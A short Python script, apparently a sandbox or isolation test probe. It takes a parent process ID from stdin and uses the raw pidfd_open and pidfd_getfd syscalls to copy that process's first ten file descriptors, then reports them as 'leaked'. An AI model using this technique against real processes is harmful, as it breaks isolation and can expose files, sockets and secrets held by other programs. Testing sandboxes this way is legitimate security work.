import json, sys
v = json.load(sys.stdin)
print("STARTED", file=sys.stderr)
sys.stderr.flush()
def leak(what):
    print(json.dumps({"leaked": str(what)[:500]}))
    sys.stdout.flush()
    print("LEAKED", str(what)[:500], file=sys.stderr)
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
fd = libc.syscall(434, v["parent_pid"], 0)
if fd >= 0:
    leak([libc.syscall(438, fd, n, 0) for n in range(10)])
